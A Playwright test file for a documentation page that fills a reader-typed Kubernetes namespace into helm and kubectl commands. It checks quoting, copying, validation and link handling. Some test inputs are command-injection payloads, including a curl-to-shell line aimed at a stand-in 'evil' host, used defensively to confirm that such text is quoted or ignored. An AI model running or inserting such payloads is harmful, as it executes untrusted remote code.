import {expect, type Page} from '@playwright/test';
import {test} from './reader.js';

const selectors = 'docs/selectors';

/** The block with the namespace, as it stands on the page. */
const block = (page: Page) =>
  page.locator('.theme-compat-command').filter({hasText: 'ai-gateway-helm'}).first();
const code = (page: Page) => block(page).locator('code');
const inline = (page: Page) => page.locator('p code').filter({hasText: 'kubectl get pods'});
const field = (page: Page) => page.locator('.theme-compat-versions').getByLabel('Namespace');

const COMMAND = [
  'helm upgrade aieg oci://docker.io/envoyproxy/ai-gateway-helm \\',
  '  --version v1.1.0 \\',
  '  -n ',
].join('\n');

/** The command with a namespace stands on the page. */
async function expectCommand(page: Page, namespace: string): Promise<void> {
  await expect(code(page).locator('.token-line').nth(2)).toHaveText(`  -n ${namespace}`);
}

test('free text that a reader types is in every command, and copied as seen', async ({
  context,
  page,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.goto(selectors);
  await expectCommand(page, 'envoy-ai-gateway-system');
  await field(page).fill('gateways');
  await expectCommand(page, 'gateways');
  await expect(inline(page)).toHaveText('kubectl get pods -n gateways');

  // A click on the text in the command leads to the field below it.
  await code(page).getByText('gateways').click();
  const below = block(page).getByLabel('Namespace');
  await expect(below).toBeFocused();
  await below.fill("bob's; id");
  const quoted = `'bob'\\''s; id'`;
  await expectCommand(page, quoted);
  await expect(inline(page)).toHaveText(`kubectl get pods -n ${quoted}`);
  await expect(field(page)).toHaveValue("bob's; id");

  await block(page).hover();
  await block(page)
    .getByRole('button', {name: /copy code/i})
    .click();
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  expect(copied.trimEnd()).toBe(COMMAND + quoted);

  await page.reload();
  await expectCommand(page, quoted);
  await field(page).fill('');
  await expectCommand(page, 'envoy-ai-gateway-system');
});

test('what a reader selects and copies by keyboard is what they see', async ({context, page}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.goto(selectors);
  await expectCommand(page, 'envoy-ai-gateway-system');
  await expect(code(page).locator('select')).not.toHaveCount(0);
  await code(page).evaluate((element) => getSelection()?.selectAllChildren(element));
  await page.keyboard.press('ControlOrMeta+C');
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  expect(copied.trimEnd()).toBe(`${COMMAND}envoy-ai-gateway-system`);
});

test('a text that cannot stand in a command says why, and changes nothing', async ({page}) => {
  await page.goto(selectors);
  await field(page).fill('--all-namespaces');
  await expect(field(page)).toHaveAttribute('aria-invalid', 'true');
  await expect(field(page)).toHaveAccessibleDescription('It must not begin with a hyphen.');
  await expectCommand(page, 'envoy-ai-gateway-system');
});

for (const text of ['gateways', 'oci://evil.example/chart', "x'; curl evil | sh; '"]) {
  test(`a link puts no text into a command: ${text}`, async ({page}) => {
    const link = `2*****AI_GATEWAY_NAMESPACE*${encodeURIComponent(text)}`;
    await page.goto(`${selectors}?compat=${encodeURIComponent(link)}`);
    await expect(field(page)).toBeEnabled();
    await expectCommand(page, 'envoy-ai-gateway-system');
  });
}

/** The blocks whose placeholders follow from the release, and what stands below them. */
const gateway = (page: Page) =>
  page.locator('.theme-compat-command').filter({hasText: '/gateway-helm'});
const manifest = (page: Page) =>
  page.locator('.theme-compat-command').filter({hasText: 'basic.yaml'});
const note = '.theme-compat-command-note';

test('what a dependency is installed in, and a ref, follow the release', async ({page}) => {
  await page.goto(selectors);
  await expect(gateway(page).locator('code')).toContainText('--version v1.8.1');
  // Nothing lies over it that would choose the product's release.
  await expect(gateway(page).locator('code select')).toHaveCount(0);
  await gateway(page).locator(note).getByRole('combobox').selectOption('v0.7.x');
  await expect(gateway(page).locator('code')).toContainText('--version <ENVOY_GATEWAY_VERSION>');
  await expect(gateway(page).locator(note)).toContainText(
    'for Envoy AI Gateway v0.7.0 · change, with Envoy Gateway v1.8.x+',
  );
  await manifest(page).locator('code').getByRole('combobox').selectOption('main');
  await expect(manifest(page).locator('code')).toContainText('/ai-gateway/main/examples/');
  await expect(gateway(page).locator(note)).toContainText('with Envoy Gateway v1.8.1');
});

test.describe('without JavaScript', () => {
  test.use({javaScriptEnabled: false});

  test('all commands are filled, and the fields are inert', async ({page}) => {
    await page.goto(selectors);
    await expectCommand(page, 'envoy-ai-gateway-system');
    await expect(inline(page)).toHaveText('kubectl get pods -n envoy-ai-gateway-system');
    await expect(page.locator('.theme-compat-versions')).toContainText(
      'Commands on this page are for',
    );
    await expect(field(page)).toBeDisabled();
    await expect(field(page)).toHaveValue('envoy-ai-gateway-system');
    await expect(gateway(page).locator('code')).toContainText('--version v1.8.1');
    await expect(manifest(page).locator('code')).toContainText('/ai-gateway/v1.1.0/examples/');
  });
});
